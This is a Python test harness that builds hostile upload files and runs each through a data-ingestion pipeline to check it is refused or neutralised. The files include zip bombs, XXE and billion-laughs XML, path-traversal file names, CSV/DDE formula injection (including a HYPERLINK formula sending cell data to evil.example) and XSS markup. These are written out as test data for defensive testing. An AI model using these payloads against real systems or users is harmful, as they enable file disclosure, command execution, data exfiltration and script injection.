"""Hostile upload files, built on demand, and a worker that runs each through the real upload
pipeline in a forked process of its own, so its time and peak memory are its own.

    python tests/hostile_files.py serve      # one JSON request per stdin line, one reply per line

A request {"case": name, "root": data_dir} makes the worker fork; the child builds the file
(large ones are made right there, never held by the test), prepares it for its dataset and, as
an analyst would, publishes it: a refused file goes through `ingest.publish` too, which must
refuse it again. The reply has the outcome, the first problems, the seconds the pipeline took,
the child's peak RSS (wait4) and every file the data dir holds afterwards.
"""

from __future__ import annotations

import io
import json
import os
import resource
import signal
import sys
import time
import traceback
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from ingest_files import csv_bytes, xlsx_bytes

from civindex import ingest
from civindex.ingest.pipeline import MAX_UPLOAD_BYTES
from civindex.store import Store

SURVEY = ["问卷编号", "调查日期", "单位名称", "区县", "总体评价", "服务窗口"]
PARTICIPATION = ["月份", "单位", "区县", "共建类别", "认领任务数", "完成任务数", "活动次数"]
PARTICIPATION += ["参与人次", "志愿服务时长"]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
]
MARKUP = [
    "<script>window.__pwned = 1; alert(1)</script>",
    '<img src=x onerror="window.__pwned=1;alert(2)">',
    "<b>加粗</b>**粗体** [链接](javascript:alert(3)) $x^2$ :red[红]",
    '"><svg onload=alert(4)>',
    "</div><iframe src=javascript:alert(5)>",
]
TEXT_LIMIT_S, TEXT_LIMIT_MB = 10, 1024


def survey_rows(n: int, window=lambda i: f"窗口{i % 3}") -> list[list]:
    return [[f"R{i:05d}", "2025-03-02", "省公安厅", "鼓楼区", "满意", window(i)] for i in range(n)]


def survey_csv(n: int = 5, encoding: str = "utf-8", **kw) -> bytes:
    return csv_bytes([SURVEY, *survey_rows(n, **kw)], encoding)


def survey_xlsx(n: int = 5) -> bytes:
    return xlsx_bytes({"数据": [SURVEY, *survey_rows(n)]})


def lines(*rows: str) -> bytes:
    return "\r\n".join([",".join(SURVEY), *rows]).encode("utf-8") + b"\r\n"


def rezip(base: bytes, member: str, change: Callable[[bytes], bytes]) -> bytes:
    """`base` (an xlsx) with one member changed."""
    source = zipfile.ZipFile(io.BytesIO(base))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            target.writestr(info, change(data) if info.filename == member else data)
    return out.getvalue()


def zip_bomb(filler: bytes, size: int, member: str, before: bytes) -> bytes:
    """An xlsx whose `member` holds `size` bytes of `filler` before `before`, streamed into
    the archive so the builder never holds the unpacked text."""
    base = survey_xlsx(1)
    source = zipfile.ZipFile(io.BytesIO(base))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename != member:
                target.writestr(info, data)
                continue
            cut = data.index(before)
            with target.open(info.filename, "w", force_zip64=True) as stream:
                stream.write(data[:cut])
                chunk = filler * ((1 << 20) // len(filler))
                for _ in range(size // len(chunk)):
                    stream.write(chunk)
                stream.write(data[cut:])
    return out.getvalue()


def many_entries(count: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as target:
        base = zipfile.ZipFile(io.BytesIO(survey_xlsx(1)))
        for info in base.infolist():
            target.writestr(info, base.read(info.filename))
        for i in range(count):
            target.writestr(f"xl/media/{i}.bin", b"")
    return out.getvalue()


def with_doctype(member: str, doctype: str, old: bytes, new: bytes) -> bytes:
    def change(data: bytes) -> bytes:
        declaration = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        data = data.replace(declaration, b'<?xml version="1.0"?>' + doctype.encode())
        return data.replace(old, new)

    return rezip(survey_xlsx(3), member, change)


XXE = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY l0 "lol">'
    + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    + "]>"
)


def ten_million_lines(row: bytes) -> bytes:
    return (",".join(SURVEY) + "\r\n").encode() + row * 10_000_000


def xlsx_with_formula_cells() -> bytes:
    import xlsxwriter

    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    sheet = book.add_worksheet("数据")
    sheet.write_row(0, 0, SURVEY)
    sheet.write_row(1, 0, ["F1", "2025-03-02", "省公安厅", "鼓楼区", "满意"])
    sheet.write_formula(1, 5, '=HYPERLINK("http://evil.example","窗口")', None, "窗口")
    sheet.write_row(2, 0, ["F2", "2025-03-02", "省公安厅", "鼓楼区"])
    sheet.write_formula(2, 4, "=2+2", None, 4)
    sheet.write_string(2, 5, "=cmd|' /C calc'!A0")
    book.close()
    return buffer.getvalue()


@dataclass(frozen=True)
class Case:
    build: Callable[[], tuple[bytes, str]]
    dataset: str = "satisfaction"
    refused: str | None = None  # text the report must show; None: published as plain text
    limit_s: float = TEXT_LIMIT_S
    limit_mb: float = TEXT_LIMIT_MB


def csv_case(content: Callable[[], bytes], refused: str | None, name="上报.csv", **kw) -> Case:
    return Case(lambda: (content(), name), refused=refused, **kw)


CASES: dict[str, Case] = {
    # malformed CSV
    "unbalanced_quote": csv_case(
        lambda: lines(
            "R1,2025-03-02,省公安厅,鼓楼区,满意,A", '"R2,2025-03-02,省公安厅,鼓楼区,满意,B'
        ),
        "字段",
    ),
    "quote_left_open_mid_row": csv_case(
        lambda: lines(
            'R1,"2025-03-02,省公安厅,鼓楼区,满意,A', "R2,2025-03-02,省公安厅,鼓楼区,满意,B"
        ),
        "字段",
    ),
    "ragged_rows": csv_case(
        lambda: lines("R1,2025-03-02", "R2,2025-03-02,省公安厅,鼓楼区,满意,A,多,多"), "字段"
    ),
    "nul_bytes_at_start": csv_case(lambda: b"\x00\x00" + survey_csv(), "二进制"),
    "nul_byte_after_64kb": csv_case(
        lambda: survey_csv(2000) + "R\x00X,2025-03-02,省公安厅,鼓楼区,满意,A\r\n".encode(),
        "二进制",
    ),
    "binary_garbage": csv_case(lambda: os.urandom(4096), "二进制"),
    "cell_over_1mb": csv_case(
        lambda: lines("R1,2025-03-02,省公安厅,鼓楼区,满意," + "长" * 20_000_000), "无法解析"
    ),
    "twenty_thousand_columns": csv_case(
        lambda: (",".join(f"列{i}" for i in range(20_000)) + "\r\n1\r\n").encode(), "列的上限"
    ),
    "only_a_header": csv_case(lambda: lines(), "只有表头"),
    "empty_file": csv_case(lambda: b"", "空"),
    "blank_lines_only": csv_case(lambda: b"\r\n" * 1000, "空"),
    # wrong or mixed encodings
    "latin1_bytes": csv_case(lambda: lines() + b"R2,2025-03-02,Caf\xe9,\xe9,\xe9\r\n", "编码"),
    "utf8_bom_then_gbk": csv_case(lambda: b"\xef\xbb\xbf" + survey_csv(encoding="gbk"), "编码"),
    "utf8_then_gbk_rows": csv_case(
        lambda: survey_csv(6000) + "R9,2025-03-02,省公安厅,鼓楼区,满意,窗口\r\n".encode("gbk"),
        "编码",
    ),
    "utf16_without_bom": csv_case(lambda: survey_csv().decode().encode("utf-16-le"), "二进制"),
    "big5_text": csv_case(
        lambda: survey_csv().decode().encode("big5", "replace"), "未知|缺少必需的列|编码"
    ),
    # size
    "over_the_size_limit": csv_case(lambda: b"a" * (MAX_UPLOAD_BYTES + 1), "上限", limit_mb=1024),
    "ten_million_blank_lines": csv_case(
        lambda: ten_million_lines(b"\n"), "只有表头", limit_s=60, limit_mb=2048
    ),
    "ten_million_bad_rows": csv_case(
        lambda: ten_million_lines(b"1,x,y,z,w,\r\n"), "无法识别", limit_s=60, limit_mb=3072
    ),
    # formulas and markup: published as plain text (exports neutralise them, pages escape them)
    "formula_text": csv_case(lambda: survey_csv(len(FORMULAS), window=FORMULAS.__getitem__), None),
    "formula_in_a_number": Case(
        lambda: (
            csv_bytes([PARTICIPATION, ["2025-03", "fgw", "", "community", "=1+1", 1, 1, 1, 1]]),
            "p.csv",
        ),
        dataset="participation",
        refused="数字",
    ),
    "formula_cells_in_xlsx": Case(lambda: (xlsx_with_formula_cells(), "公式.xlsx"), refused=None),
    "html_and_script_text": csv_case(
        lambda: survey_csv(len(MARKUP), window=MARKUP.__getitem__), None
    ),
    "html_in_a_header": csv_case(
        lambda: b"<script>alert(1)</script>,=cmd|' /C calc'!A0\r\n1,2\r\n", "缺少必需的列"
    ),
    # file names (a valid file under a hostile name: stored under a safe name in the archive)
    "name_parent_folders": csv_case(lambda: survey_csv(), None, name="../../../../etc/passwd"),
    "name_windows_path": csv_case(lambda: survey_csv(), None, name="..\\..\\Windows\\win.ini.csv"),
    "name_with_nul": csv_case(lambda: survey_csv(), None, name="报表\x00.csv"),
    "name_very_long": csv_case(lambda: survey_csv(), None, name="很长的名字" * 200 + ".csv"),
    "name_only_dots": csv_case(lambda: survey_csv(), None, name=".."),
    "name_markup": csv_case(lambda: survey_csv(), None, name="<img src=x onerror=alert(1)>.csv"),
    "name_executable": csv_case(lambda: survey_csv(), "不支持", name="报表.csv.exe"),
    # Excel and zip
    "csv_named_xlsx": csv_case(lambda: survey_csv(), "不是 Excel", name="报表.xlsx"),
    "truncated_xlsx": csv_case(lambda: survey_xlsx()[:2000], "已损坏", name="坏.xlsx"),
    "zip_without_a_workbook": csv_case(
        lambda: rezip(survey_xlsx(), "xl/workbook.xml", lambda _d: b"not xml"),
        "已损坏",
        name="坏.xlsx",
    ),
    "xls_header_then_garbage": csv_case(
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + os.urandom(4096), ".xls", name="旧.xls"
    ),
    "zip_bomb_whitespace_1gb": csv_case(
        lambda: zip_bomb(b" ", 1 << 30, "xl/worksheets/sheet1.xml", b"</sheetData>"),
        "压缩包",
        name="炸弹.xlsx",
    ),
    "zip_bomb_rows_256mb": csv_case(
        lambda: zip_bomb(
            b'<row><c t="inlineStr"><is><t>x</t></is></c></row>',
            256 << 20,
            "xl/worksheets/sheet1.xml",
            b"</sheetData>",
        ),
        "压缩包",
        name="炸弹.xlsx",
    ),
    "zip_bomb_shared_strings": csv_case(
        lambda: zip_bomb(b"<si><t>x</t></si>", 256 << 20, "xl/sharedStrings.xml", b"</sst>"),
        "压缩包",
        name="炸弹.xlsx",
    ),
    "zip_with_50000_entries": csv_case(lambda: many_entries(50_000), "压缩包", name="多.xlsx"),
    "xxe_in_shared_strings": csv_case(
        lambda: with_doctype("xl/sharedStrings.xml", XXE, b"<t>R00000</t>", b"<t>&xxe;</t>"),
        "已损坏",
        name="xxe.xlsx",
    ),
    "xxe_in_sheet": csv_case(
        lambda: with_doctype(
            "xl/worksheets/sheet1.xml",
            XXE,
            b'<c r="A2" t="s"><v>6</v></c>',
            b'<c r="A2" t="inlineStr"><is><t>&xxe;</t></is></c>',
        ),
        "已损坏",
        name="xxe.xlsx",
    ),
    "billion_laughs": csv_case(
        lambda: with_doctype("xl/sharedStrings.xml", LAUGHS, b"<t>R00000</t>", b"<t>&l9;</t>"),
        "已损坏",
        name="lol.xlsx",
    ),
    # wrong dataset
    "participation_file_as_survey": csv_case(
        lambda: csv_bytes([PARTICIPATION, ["2025-03", "fgw", "", "community", 1, 1, 1, 1, 1]]),
        "看起来是",
    ),
}


# --- the worker ------------------------------------------------------------------------------


def _files(root: Path) -> list[str]:
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())


def run_case(name: str, root: Path) -> dict:
    """In the forked child: build, prepare, publish; what happened, for the reply."""
    case = CASES[name]
    content, file_name = case.build()
    store = Store(root)
    started = time.perf_counter()
    prepared = ingest.prepare(content, file_name, case.dataset, store=store)
    published, refusal = None, ""
    try:
        published = ingest.publish(prepared, store, user="analyst").upload_id
    except ingest.IngestError as error:
        refusal = str(error)
    seconds = time.perf_counter() - started
    return {
        "ok": prepared.ok,
        "problems": [p.problem for p in prepared.report.problems if p.severity == "error"][:5],
        "errors": prepared.report.errors,
        "published": published,
        "refusal": refusal,
        "seconds": round(seconds, 3),
        "bytes": len(content),
        "files": _files(root),
    }


def serve() -> None:
    for line in sys.stdin:
        request = json.loads(line)
        root = Path(request["root"])
        root.mkdir(parents=True, exist_ok=True)
        result_path = root.parent / f"{root.name}.result.json"
        started = time.perf_counter()
        pid = os.fork()
        if pid == 0:
            signal.alarm(300)  # a runaway case dies instead of hanging the suite
            try:
                result = run_case(request["case"], root)
            except BaseException:
                result = {"exception": traceback.format_exc()[-3000:]}
            result_path.write_text(json.dumps(result, ensure_ascii=False))
            os._exit(0)
        _pid, status, usage = os.wait4(pid, 0)
        reply = {"status": status, "wall": round(time.perf_counter() - started, 3)}
        reply["rss_mb"] = round(usage.ru_maxrss / 1024)
        if result_path.exists():
            reply |= json.loads(result_path.read_text())
        print(json.dumps(reply, ensure_ascii=False), flush=True)


if __name__ == "__main__":
    resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
    serve()
